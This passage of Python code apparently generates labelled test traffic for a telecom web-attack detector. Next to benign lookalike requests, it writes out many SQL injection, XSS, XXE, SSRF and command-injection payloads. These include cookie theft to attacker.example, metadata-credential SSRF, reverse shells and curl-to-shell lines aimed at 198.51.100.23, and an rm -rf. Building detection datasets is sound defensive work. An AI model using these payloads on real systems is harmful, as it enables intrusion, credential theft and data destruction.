        ("USSD menu syntax", "Menu paths come in as text=1*2*3. A response starting with CON continues, END closes:\nCON Choose:\n1. Balance\n2. Bundles\n# back to main: 0"),
        ("Blocking SIP scanners", "iptables -I INPUT -p udp --dport 5060 -m string --string \"friendly-scanner\" --algo bm -j DROP\nfail2ban: [asterisk] enabled = true, maxretry = 3"),
        ("Log4j upgrade notes", "We upgraded log4j-core to 2.17.1 on the SIP app servers. Payloads like ${jndi:...} in User-Agent are now inert. Also set -Dlog4j2.formatMsgNoLookups=true."),
        ("CDR export to BigQuery", "bq query --use_legacy_sql=false 'SELECT trunk, COUNT(*) FROM `telco.cdr` WHERE DATE(start_time) = CURRENT_DATE() GROUP BY trunk'"),
    ]
    for title, text in kb:
        body = {"title": title, "body_markdown": text, "space": "NOC", "labels": ["howto"]}
        o.add("dev-kb-article", "dev-content", "PUT", "/api/pages/%d" % r.randint(100, 999), o.api(H_KB, ctype=JSONCT, ua=r.choice(UA_BROWSER), auth=False, extra=[["Cookie", o.session()]]), jdump(body))
    # engineers sharing snippets in a team chat
    for kind, text in DEV_SNIPPETS[2::5]:
        body = {"channel": "#noc-oncall", "text": "```%s```" % text, "thread_ts": "1718%06d.%06d" % (r.randint(0, 999999), r.randint(0, 999999))}
        o.add("dev-chat-%s" % kind, "dev-content", "POST", "/api/chat.postMessage", o.api("chat.example.com", ctype=JSONCT), jdump(body))
    # CDR query builder that legitimately takes SQL-ish expressions (report designer)
    for expr in ["duration > 60 AND disposition = 'ANSWERED'", "calling LIKE '+44%' OR called LIKE '+44%'", "trunk IN ('sbc-lon', 'intl-02') AND cost > 0.5",
                 "DATE(start_time) BETWEEN '2024-06-01' AND '2024-06-30'"]:
        o.add("dev-report-filter", "dev-content", "GET", "/reports/cdr/preview?" + qs([("where", expr), ("group_by", "trunk"), ("limit", "100")]),
              o.browser(H_BILL, accept=ACCEPT_JSON, cookie=o.session()))


# ================================================================ attacks

UA_TOOLS = {
    "sqlmap": "sqlmap/1.7.11#stable (https://sqlmap.org)",
    "nikto": "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
    "nuclei": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
}

SQLI_LOOKUP = [
    "+15550100' OR '1'='1",
    "+15550100' OR 1=1-- -",
    "447700900123' UNION SELECT NULL,username,password_hash,NULL FROM operators-- -",
    "447700900123\" OR \"\"=\"",
    "+15550100') AND (SELECT 4821 FROM (SELECT(SLEEP(5)))xYzq)-- kLmN",
    "+15550100'; WAITFOR DELAY '0:0:7'--",
    "+15550100' AND 1=CAST((SELECT string_agg(table_name,',') FROM information_schema.tables) AS int)--",
    "+15550100' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT user()),0x7e))-- -",
    "15550100 AND 1=(SELECT COUNT(*) FROM all_users t1, all_users t2, all_users t3)",
    "+15550100'||(SELECT pg_sleep(6))||'",
    "-1 UNION ALL SELECT 1,group_concat(msisdn,0x3a,imsi),3,4 FROM subscribers#",
    "+15550100' AND SUBSTRING((SELECT password FROM admins LIMIT 1),1,1)='a",
    "1' AND ASCII(SUBSTR((SELECT banner FROM v$version WHERE ROWNUM=1),1,1))>64--",
    "+15550100';DROP TABLE cnam_cache;--",
    "+15550100' AND updatexml(1,concat(0x3a,(select @@version)),1) AND '1'='1",
    "x' UNION SELECT name,sql FROM sqlite_master--",
]

SQLI_CDR = [
    ("sort", "start_time,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/(SELECT 0) END)"),
    ("sort", "duration;SELECT pg_sleep(10)--"),
    ("sort", "(CASE WHEN (SELECT SUBSTRING(current_user,1,1))='p' THEN cost ELSE duration END)"),
    ("disposition", "ANSWERED' UNION SELECT 1,2,table_name,4,5,6,7,8 FROM information_schema.tables WHERE table_schema=database()-- -"),
    ("min_duration", "30 OR 1=1"),
    ("min_duration", "0) OR (SELECT 1 FROM (SELECT SLEEP(5))a)-- "),
    ("trunk", "sbc-lon' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--"),
    ("calling", "+1555%' AND 1=2 UNION SELECT NULL,NULL,@@version,NULL--"),
    ("to", "2024-06-30'; EXEC master..xp_cmdshell 'ping -n 5 198.51.100.77'--"),
    ("from", "2024-06-01' AND (SELECT 1 FROM dual WHERE 1=UTL_INADDR.get_host_address((SELECT user FROM dual)||'.x.attacker.example'))--"),
    ("page", "1 PROCEDURE ANALYSE(EXTRACTVALUE(5151,CONCAT(0x5c,version())),1)"),
    ("per_page", "50 UNION SELECT LOAD_FILE('/etc/passwd'),2,3--"),
]


def attacks_sqli(o):
    r = o.rng
    # number lookup via path, query, JSON
    for i, p in enumerate(SQLI_LOOKUP):
        mode = i % 4
        if mode == 0:
            o.add("sqli-lookup-path", "sqli", "GET", "/v2/PhoneNumbers/%s?Fields=caller_name" % quote(p, safe=""),
                  o.api(H_LOOKUP, ua=UA_TOOLS["sqlmap"] if i % 8 == 0 else None))
        elif mode == 1:
            o.add("sqli-cnam-query", "sqli", "GET", "/cnam?" + qs([("number", p), ("country", "US")], plus=(i % 3 != 0)),
                  o.browser(H_LOOKUP, accept=ACCEPT_JSON, cookie=o.session()))
        elif mode == 2:
            o.add("sqli-lnp-json", "sqli", "POST", "/lnp/v1/query", o.api(H_LOOKUP, ctype=JSONCT),
                  jdump({"tns": [p], "query": "lrn", "ref": "PON-%d" % r.randint(10000, 99999)}))
        else:
            o.add("sqli-hlr-query", "sqli", "GET", "/hlr/lookup?" + qs([("msisdn", p), ("fields", "imsi,ported")], plus=False),
                  o.api(H_LOOKUP, ua=UA_TOOLS["sqlmap"] if i % 2 else None))
    # CDR filters
    for i, (k, v) in enumerate(SQLI_CDR):
        pairs = [("from", "2024-06-01"), ("to", "2024-06-30"), ("disposition", "ANSWERED"), ("sort", "-start_time"), ("page", "1")]
        pairs = [(a, b) for a, b in pairs if a != k] + [(k, v)]
        o.add("sqli-cdr-filter", "sqli", "GET", "/cdr/search?" + qs(pairs, plus=(i % 2 == 0)),
              o.browser(H_BILL, accept=ACCEPT_JSON, cookie=o.session(), extra=[["X-Requested-With", "XMLHttpRequest"]]))
    # self-care login / SIM swap, form + cookies + headers
    forms = [
        ("/login", [("msisdn", "+447700900123' OR '1'='1'-- "), ("pin", "0000")]),
        ("/login", [("msisdn", "admin'--"), ("pin", "x")]),
        ("/sim/swap", [("msisdn", "+447700900123"), ("new_iccid", "8944100000000000001' AND (SELECT 1 FROM pg_sleep(5)) IS NULL--"), ("reason", "lost")]),
        ("/account/plan/change", [("current_plan", "PAYG"), ("new_plan", "UNL-30GB' WHERE 1=1; UPDATE accounts SET balance=9999 WHERE msisdn='+447700900123'--")]),
        ("/topup", [("amount", "10"), ("voucher", "1234-5678-9012-3456' OR 'x'='x")]),
        ("/usage", [("line", "+447700900123"), ("month", "2024-06' UNION SELECT card_number,cvv,NULL FROM payments-- ")]),
    ]
    for path, pairs in forms:
        o.add("sqli-care-form", "sqli", "POST", path, o.browser(H_CARE, ctype=FORM, cookie=o.care_cookie()), urlencode(pairs))
    for v in ["ops' AND 1=1 UNION SELECT session_token FROM sessions--", "1' AND SLEEP(5)#"]:
        o.add("sqli-cookie", "sqli", "GET", "/account/overview",
              o.browser(H_CARE, cookie="sc_session=%s; msisdn_hint=%s" % (o.hexid(48), quote(v, safe=""))))
    for v in ["203.0.113.9' AND (SELECT 1 FROM (SELECT SLEEP(8))x)-- -", "1' UNION SELECT @@version,NULL-- -"]:
        o.add("sqli-header", "sqli", "GET", "/api/alarms?severity=critical",
              o.browser(H_NOC, accept=ACCEPT_JSON, cookie=o.session(), extra=[["X-Forwarded-For", v]]))
    # DLR callback and USSD carriers
    for v in ["7c1a90f2e3' OR 1=1-- ", "7c1a90f2e3'; UPDATE messages SET status='DELIVRD'--"]:
        o.add("sqli-dlr", "sqli", "GET", "/hooks/dlr?" + qs([("msgid", v), ("status", "1"), ("answer", dlr_text(o))]),
              o.api("app.example.com", accept=ACCEPT_ANY, auth=False, ua=r.choice(UA_GATEWAY)))
    for v in ["1*2' UNION SELECT pin FROM wallets WHERE msisdn='254712345678'--", "3*0712345678*500' AND '1'='1"]:
        o.add("sqli-ussd", "sqli", "POST", "/ussd/callback", o.api(H_USSD, accept=ACCEPT_ANY, ctype=FORM, auth=False),
              urlencode([("sessionId", "ATUid_" + o.hexid(24)), ("serviceCode", "*384*1234#"), ("phoneNumber", "+254712345678"), ("text", v)]))
    # directory search that reaches SQL
    for v in ["O'Brien' UNION SELECT extension,sip_secret,NULL FROM sip_peers-- ", "Smith%' AND 1=0 UNION SELECT NULL,version(),NULL--"]:
        o.add("sqli-directory", "sqli", "GET", "/phonebook/search?" + qs([("q", v), ("field", "name")]), o.browser(H_DIR, accept=ACCEPT_JSON, cookie=o.session()))


XSS_SMS = [
    "<script>fetch('https://attacker.example/c?'+document.cookie)</script>",
    "<img src=x onerror=alert(document.domain)>",
    "<svg/onload=location='//attacker.example/?c='+document.cookie>",
    "Your code is 4821 <iframe src=\"javascript:alert(1)\"></iframe>",
    "\"><script src=https://attacker.example/x.js></script>",
    "<body onload=alert('sms')>",
    "<a href=\"javascript:fetch('//attacker.example/'+localStorage.token)\">Track parcel</a>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(document.cookie)>",
    "'-alert(1)-'",
    "</textarea><script>alert(1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"></iframe>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<video><source onerror=\"javascript:alert(1)\"></video>",
    "<marquee onstart=alert(1)>WIN A PRIZE</marquee>",
    "<div style=\"background:url(javascript:alert(1))\">",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
]


def attacks_xss(o):
    r = o.rng
    for i, p in enumerate(XSS_SMS):
        mode = i % 5
        if mode == 0:
            pairs = [("ToCountry", "US"), ("SmsMessageSid", o.sid("SM")), ("From", o.msisdn()), ("To", "+15550100"), ("Body", p), ("NumMedia", "0")]
            o.add("xss-mo-webhook", "xss", "POST", "/sms/inbound", o.api("app.example.com", accept=ACCEPT_ANY, ctype=FORM, auth=False, ua="TwilioProxy/1.1"), urlencode(pairs))
        elif mode == 1:
            o.add("xss-sms-json", "xss", "POST", "/v1/sms/messages", o.api(H_SMS, ctype=JSONCT),
                  jdump({"from": "InfoSMS", "to": [o.msisdn()], "text": p, "encoding": "GSM7"}))
        elif mode == 2:
            o.add("xss-inbox-search", "xss", "GET", "/inbox/search?" + qs([("q", p), ("folder", "inbox")], plus=(i % 2 == 0)),
                  o.browser("messages.example.com", cookie=o.session()))
        elif mode == 3:
            o.add("xss-kannel-send", "xss", "GET", "/cgi-bin/sendsms?" + qs([("username", "tester"), ("password", "x"), ("to", o.msisdn()), ("text", p)], plus=False),
                  o.api(H_GW, accept=ACCEPT_ANY, auth=False))
        else:
            o.add("xss-support-form", "xss", "POST", "/support/contact", o.browser(H_CARE, ctype=FORM, cookie=o.care_cookie()),
                  urlencode([("subject", "Billing"), ("message", p), ("contact", "email")]))
    # caller name / CNAM fields
    cnam = ["<script>alert(1)</script>", "<img src=1 onerror=prompt(1)>", "\"><svg onload=confirm`1`>", "<b onmouseover=alert(1)>ACME</b>",
            "<ScRiPt>eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))</ScRiPt>", "<style>@import'//attacker.example/x.css';</style>"]
    for i, p in enumerate(cnam):
        if i % 3 == 0:
            pairs = [("CallSid", o.sid("CA")), ("From", o.msisdn()), ("To", "+15550100"), ("CallStatus", "ringing"), ("CallerName", p)]
            o.add("xss-callername-webhook", "xss", "POST", "/voice/answer", o.api("app.example.com", accept=ACCEPT_ANY, ctype=FORM, auth=False, ua="TwilioProxy/1.1"), urlencode(pairs))
        elif i % 3 == 1:
            o.add("xss-cnam-update", "xss", "PUT", "/api/numbers/%s/cnam" % quote(o.msisdn("1"), safe=""), o.api(H_LOOKUP, ctype=JSONCT), jdump({"display_name": p, "type": "business"}))
        else:
            o.add("xss-extension-name", "xss", "POST", "/admin/extensions/save", o.browser("pbx.example.com", ctype=FORM, cookie=o.session()),
                  urlencode([("extension", "104"), ("display_name", p), ("sip_uri", "sip:104@pbx.example.com")]))
    # RCS card, SIP display name in JSON, path/reflected error pages
    rcs = {"contentMessage": {"richCard": {"standaloneCard": {"cardContent": {"title": "<img src=x onerror=alert(document.cookie)>",
                                                                               "description": "Track now", "suggestions": [{"reply": {"text": "ok", "postbackData": "x"}}]}}}}}
    o.add("xss-rcs-card", "xss", "POST", "/v1/phones/%s/agentMessages" % quote(o.msisdn("44"), safe=""), o.api(H_RCS, ctype=JSONCT), jdump(rcs))
    o.add("xss-rcs-card", "xss", "POST", "/rbm/webhook", o.api("app.example.com", ctype=JSONCT, auth=False),
          jdump({"senderPhoneNumber": o.msisdn(), "messageId": o.hexid(20), "text": "<svg><script>alert(1)</script></svg>"}))
    o.add("xss-sip-display", "xss", "POST", "/api/v2/sip/trunks", o.api(H_SIP, ctype=JSONCT),
          jdump({"name": "trunk-x", "p_asserted_identity": "\"<script>alert(1)</script>\" <sip:+15550100@example.com>"}))
    o.add("xss-reflected-path", "xss", "GET", "/help/codes/%s" % quote("<script>alert(document.domain)</script>", safe=""), o.browser(H_CARE))
    o.add("xss-reflected-param", "xss", "GET", "/ussd/help?code=" + quote("*123#\"><img src=x onerror=alert(1)>", safe=""), o.browser(H_CARE))
    o.add("xss-reflected-param", "xss", "GET", "/voicemail/play?msg=" + quote("javascript:alert(document.cookie)", safe=":"), o.browser(H_VM))
    o.add("xss-referer", "xss", "GET", "/inbox", o.browser("messages.example.com", cookie=o.session(), referer="https://example.com/\"><script>alert(1)</script>"))
    o.add("xss-entity-encoded", "xss", "POST", "/sms/inbound", o.api("app.example.com", accept=ACCEPT_ANY, ctype=FORM, auth=False, ua="TwilioProxy/1.1"),
          urlencode([("From", o.msisdn()), ("Body", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">click</a>")]))
    ct, body = o.multipart([("to", None, None, o.msisdn()), ("subject", None, None, "<script>alert(1)</script>"),
                            ("media", "pic.svg", "image/svg+xml", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.domain)\"><rect width=\"10\" height=\"10\"/></svg>")])
    o.add("xss-mms-multipart", "xss", "POST", "/v1/mms", o.api(H_SMS, ctype=ct), body)


def attacks_xxe(o):
    r = o.rng
    docs = [
        ("voice-twiml-upload", "/v1/apps/AP%s/twiml" % o.hexid(32), "application/xml",
         '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE Response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<Response><Say voice="alice">&xxe;</Say></Response>'),
        ("voice-twiml-upload", "/v1/apps/AP%s/twiml" % o.hexid(32), "application/xml",
         '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote; %send;]>\n<Response><Hangup/></Response>'),
        ("voice-vxml-upload", "/ivr/dialogs", "application/voicexml+xml",
         '<?xml version="1.0"?>\n<!DOCTYPE vxml [<!ENTITY cfg SYSTEM "file:///etc/asterisk/sip.conf">]>\n<vxml version="2.1"><form><block><prompt>&cfg;</prompt></block></form></vxml>'),
        ("voice-vxml-upload", "/ivr/dialogs", "application/voicexml+xml",
         '<?xml version="1.0"?>\n<!DOCTYPE vxml SYSTEM "http://198.51.100.23:8000/x.dtd">\n<vxml version="2.1"><form><block>hi</block></form></vxml>'),
        ("sip-phone-config-upload", "/prov/phones/201.xml", "application/xml",
         '<?xml version="1.0" standalone="no"?>\n<!DOCTYPE PHONE_CONFIG [<!ENTITY meta SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]>\n<PHONE_CONFIG><OBJECT reg.1.displayName="&meta;"/></PHONE_CONFIG>'),
        ("lookup-port-request", "/porting/requests", "application/xml",
         '<?xml version="1.0"?>\n<!DOCTYPE PortRequest [<!ELEMENT PortRequest ANY><!ENTITY % file SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/config.php"><!ENTITY % dtd SYSTEM "http://attacker.example/combine.dtd">%dtd;]>\n<PortRequest><PON>&send;</PON></PortRequest>'),
        ("lookup-port-request", "/porting/requests", "text/xml",
         '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>\n<PortRequest><PON>&lol4;</PON></PortRequest>'),
        ("soap-parlayx", "/parlayx/SendSmsService", "text/xml; charset=utf-8",
         '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE soapenv:Envelope [<!ENTITY x SYSTEM "file:///etc/shadow">]>\n<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:loc="http://www.csapi.org/schema/parlayx/sms/send/v2_2/local"><soapenv:Body><loc:sendSms><loc:addresses>tel:+15550142</loc:addresses><loc:senderName>ACME</loc:senderName><loc:message>&x;</loc:message></loc:sendSms></soapenv:Body></soapenv:Envelope>'),
        ("soap-parlayx", "/parlayx/TerminalLocationService", "text/xml; charset=utf-8",
         '<?xml version="1.0"?>\n<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "expect://id">%xxe;]>\n<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><getLocation><address>tel:+15550142</address></getLocation></soapenv:Body></soapenv:Envelope>'),
        ("xinclude-provision", "/prov/phones/202.xml", "application/xml",
         '<PHONE_CONFIG xmlns:xi="http://www.w3.org/2001/XInclude"><OBJECT><xi:include parse="text" href="file:///etc/hostname"/></OBJECT></PHONE_CONFIG>'),
        ("voice-twiml-upload", "/v1/apps/AP%s/twiml" % o.hexid(32), "application/xml",
         '<?xml version="1.0"?>\n<!DOCTYPE Response [<!ENTITY win SYSTEM "file:///c:/windows/win.ini">]>\n<Response><Say>&win;</Say></Response>'),
        ("netconf-rpc", "/restconf/data", "application/yang-data+xml",
         '<?xml version="1.0"?>\n<!DOCTYPE config [<!ENTITY % p1 SYSTEM "ftp://198.51.100.23:2121/x.dtd">%p1;]>\n<config><interfaces/></config>'),
        ("sip-phone-config-upload", "/prov/phones/203.xml", "application/xml; charset=utf-16",
         '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///proc/self/environ">]><PHONE_CONFIG><OBJECT reg.1.label="&e;"/></PHONE_CONFIG>'),
    ]
    for slug, path, ct, x in docs:
        o.add("xxe-" + slug, "xxe", "POST", path, o.api(H_VOICE if "twiml" in slug or "vxml" in slug else H_SIP, ctype=ct), x)
    # SVG in MMS, SMIL in MMS (multipart), XLSX-less docx skipped; XML in JSON field
    ct, body = o.multipart([("to", None, None, o.msisdn()),
                            ("media", "card.svg", "image/svg+xml", '<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" width="200" height="50"><text x="0" y="20">&xxe;</text></svg>')])
    o.add("xxe-mms-svg", "xxe", "POST", "/v1/mms", o.api(H_SMS, ctype=ct), body)
    ct, body = o.multipart([("to", None, None, o.msisdn()),
                            ("smil", "mms.smil", "application/smil", '<?xml version="1.0"?><!DOCTYPE smil [<!ENTITY % d SYSTEM "http://attacker.example/smil.dtd">%d;]><smil><body><par dur="1s"/></body></smil>')])
    o.add("xxe-mms-smil", "xxe", "POST", "/v1/mms", o.api(H_SMS, ctype=ct), body)
    o.add("xxe-json-embedded", "xxe", "POST", "/v1/calls", o.api(H_VOICE, ctype=JSONCT),
          jdump({"to": "+15550142", "from": "+15550100", "twiml": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><Response><Say>&x;</Say></Response>'}))
    o.add("xxe-form-embedded", "xxe", "POST", "/voice/apps/preview", o.browser(H_VOICE, ctype=FORM, cookie=o.session()),
          urlencode([("doc", '<!DOCTYPE Response [<!ENTITY % a SYSTEM "http://198.51.100.23/a.dtd"> %a;]><Response/>')]))


SSRF_URLS = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/user-data",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://2852039166/latest/meta-data/",
    "http://0xA9FEA9FE/latest/meta-data/",
    "http://0251.0376.0251.0376/latest/meta-data/",
    "http://[::ffff:169.254.169.254]/latest/meta-data/",
    "http://127.0.0.1:8080/admin/",
    "http://localhost:2375/containers/json",
    "http://127.1:8088/ari/channels?api_key=asterisk:asterisk",
    "http://[::1]:5038/rawman?action=login&username=admin&secret=amp111",
    "http://10.0.0.5:8500/v1/agent/self",
    "http://192.168.1.1/cgi-bin/luci",
    "http://172.16.0.10:9200/_cat/indices",
    "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
    "dict://127.0.0.1:11211/stats",
    "file:///etc/passwd",
    "http://169.254.170.2/v2/credentials/",
    "http://0.0.0.0:10250/pods",
    "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
    "http://169.254.169.254.nip.io/latest/meta-data/",
]


def attacks_ssrf(o):
    r = o.rng
    for i, u in enumerate(SSRF_URLS):
        mode = i % 6
        if mode == 0:
            x = '<Response><Play>%s</Play></Response>' % u.replace("&", "&amp;")
            o.add("ssrf-twiml-play", "ssrf", "POST", "/v1/apps/AP%s/twiml" % o.hexid(32), o.api(H_VOICE, ctype="application/xml"), x)
        elif mode == 1:
            x = '<Response><Redirect method="GET">%s</Redirect></Response>' % u.replace("&", "&amp;")
            o.add("ssrf-twiml-redirect", "ssrf", "PUT", "/v1/apps/AP%s/twiml" % o.hexid(32), o.api(H_VOICE, ctype="application/xml"), x)
        elif mode == 2:
            o.add("ssrf-status-callback", "ssrf", "POST", "/2010-04-01/Accounts/AC%s/Messages.json" % o.hexid(32), o.api(H_SMS, ctype=FORM),
                  urlencode([("To", o.msisdn()), ("From", "+15550199"), ("Body", "hi"), ("StatusCallback", u)]))
        elif mode == 3:
            o.add("ssrf-mms-mediaurl", "ssrf", "POST", "/v1/mms", o.api(H_SMS, ctype=JSONCT),
                  jdump({"to": [o.msisdn()], "media_urls": [u], "text": "see pic"}))
        elif mode == 4:
            o.add("ssrf-call-answer-url", "ssrf", "POST", "/v1/calls", o.api(H_VOICE, ctype=JSONCT),
                  jdump({"to": "+15550142", "from": "+15550100", "answer_url": [u], "event_url": ["https://app.example.com/events"]}))
        else:
            o.add("ssrf-dlr-url", "ssrf", "GET", "/cgi-bin/sendsms?" + qs([("username", "tester"), ("password", "x"), ("to", o.msisdn()), ("text", "test"), ("dlr-mask", "31"), ("dlr-url", u)]),
                  o.api(H_GW, accept=ACCEPT_ANY, auth=False))
    extra = [
        ("ssrf-rcs-media", "POST", "/v1/phones/%s/agentMessages" % quote(o.msisdn("44"), safe=""), JSONCT,
         jdump({"contentMessage": {"contentInfo": {"fileUrl": "http://169.254.169.254/latest/meta-data/hostname", "forceRefresh": True}}})),
        ("ssrf-vxml-submit", "POST", "/ivr/dialogs", "application/voicexml+xml",
         '<?xml version="1.0"?><vxml version="2.1"><form><block><submit next="http://127.0.0.1:8088/ari/asterisk/info" method="get"/></block></form></vxml>'),
        ("ssrf-vxml-audio", "POST", "/ivr/dialogs", "application/voicexml+xml",
         '<?xml version="1.0"?><vxml version="2.1"><form><block><audio src="http://metadata.google.internal/computeMetadata/v1/project/project-id"/></block></form></vxml>'),
        ("ssrf-webhook-config", "PUT", "/api/numbers/%s/webhooks" % quote(o.msisdn("1"), safe=""), JSONCT,
         jdump({"sms_url": "http://169.254.169.254/latest/meta-data/", "voice_url": "http://127.0.0.1:22/"})),
        ("ssrf-rec-fetch", "GET", "/recordings/import?" + qs([("url", "http://localhost/server-status")]), None, None),
        ("ssrf-noc-snmp", "GET", "/snmp/get?" + qs([("host", "169.254.169.254"), ("oid", "1.3.6.1.2.1.1.1.0"), ("proxy", "http://169.254.169.254/latest/meta-data/")]), None, None),
    ]
    for slug, m, path, ct, body in extra:
        host = H_RCS if "rcs" in slug else H_VOICE
        o.add(slug, "ssrf", m, path, o.api(host, ctype=ct), body)


RCE_HOSTS = [
    "203.0.113.10; cat /etc/passwd",
    "203.0.113.10 && id",
    "203.0.113.10 | nc 198.51.100.23 4444 -e /bin/sh",
    "`id`",
    "$(curl -s http://198.51.100.23/s.sh | sh)",
    "sbc1.example.net;wget http://attacker.example/x -O /tmp/x;chmod +x /tmp/x;/tmp/x",
    "203.0.113.10\nuname -a",
    "127.0.0.1${IFS}&&${IFS}cat${IFS}/etc/shadow",
    "203.0.113.10 || bash -i >& /dev/tcp/198.51.100.23/443 0>&1",
    "203.0.113.10 & whoami",
    "203.0.113.10 | powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')\"",
    "-c 1 203.0.113.10; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.23\",9001));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"sh\")'",
    "203.0.113.10;/bin/busybox telnetd -p 9999 -l /bin/sh",
    "a;echo${IFS}YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjIzLzQ0NDMgMD4mMQ==|base64${IFS}-d|bash",
    "203.0.113.10%0acat%20/etc/asterisk/manager.conf",
    "$(sleep 10)",
    "203.0.113.10;c'a't /e't'c/pas\"s\"wd",
    "|| ping -c 10 127.0.0.1 ||",
    "203.0.113.10;perl -e 'use Socket;$i=\"198.51.100.23\";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in($p,inet_aton($i)));exec(\"/bin/sh -i\");'",
    "203.0.113.10 ; rm -rf /var/spool/asterisk/*",
    "x.example.net;ls -la /etc/asterisk/",
    "203.0.113.10|cmd.exe /c type C:\\Windows\\win.ini",
]


def attacks_rce(o):
    r = o.rng
    for i, h in enumerate(RCE_HOSTS):
        raw_nl = "%0a" in h
        mode = 1 if raw_nl else i % 4
        if mode == 0:
            body = urlencode([("tool", r.choice(["ping", "traceroute"])), ("host", h), ("count", "4"), ("proto", "icmp")])
            if raw_nl:
                body = "tool=ping&host=" + h + "&count=4"
            o.add("rce-diagnostics-form", "rce", "POST", "/tools/diagnostics", o.browser(H_NOC, ctype=FORM, cookie=o.session()), body)
        elif mode == 1:
            q = ("host=" + h) if raw_nl else qs([("host", h), ("count", "3")], plus=(i % 3 == 0))
            o.add("rce-traceroute-get", "rce", "GET", "/cgi-bin/traceroute.cgi?" + q, o.browser(H_NOC, cookie=o.session()))
        elif mode == 2:
            o.add("rce-diag-json", "rce", "POST", "/api/diag/ping", o.api(H_NOC, ctype=JSONCT), jdump({"target": h, "count": 5, "size": 64}))
        else:
            o.add("rce-sbc-mtr", "rce", "POST", "/sbc/admin/mtr", o.browser("sbc1.example.net", ctype=FORM, cookie=o.session()),
                  urlencode([("dest", h), ("cycles", "10")]) if not raw_nl else "dest=" + h + "&cycles=10")
    # other fields reaching shells: snmp community, dig NAPTR name, recording converter, filename
    more = [
        ("rce-snmp-community", "GET", "/snmp/get?" + qs([("host", "198.51.100.1"), ("oid", "1.3.6.1.2.1.1.3.0"), ("community", "public';id;'")]), None, None),
        ("rce-snmp-oid", "GET", "/snmp/walk?" + qs([("host", "198.51.100.1"), ("oid", "1.3.6.1.2.1.1 $(cat /etc/passwd > /var/www/html/p.txt)")]), None, None),
        ("rce-dig-naptr", "POST", "/tools/diagnostics", FORM, urlencode([("tool", "dig"), ("host", "_sip._udp.example.com;curl http://198.51.100.23/`whoami`"), ("type", "NAPTR")])),
        ("rce-rec-convert", "POST", "/recordings/convert", JSONCT, jdump({"file": "RE123.wav", "format": "mp3 -i /dev/null; nc -e /bin/sh 198.51.100.23 4444 #"})),
        ("rce-rec-filename", "POST", "/voicemail/greeting", None, None),
        ("rce-shellshock-ua", "GET", "/cgi-bin/status.cgi", None, None),
        ("rce-shellshock-hdr", "GET", "/cgi-bin/sendsms", None, None),
        ("rce-ussd-text", "POST", "/ussd/callback", FORM, urlencode([("sessionId", "ATUid_" + o.hexid(24)), ("serviceCode", "*123#"), ("phoneNumber", "+254712345678"), ("text", "1*2;/bin/sh -c 'id>/tmp/o'")])),
        ("rce-provision-mac", "GET", "/prov/" + quote("000b82aabbcc;wget http://198.51.100.23/m -O-|sh;", safe=";/") + ".cfg", None, None),
    ]
    for slug, m, path, ct, body in more:
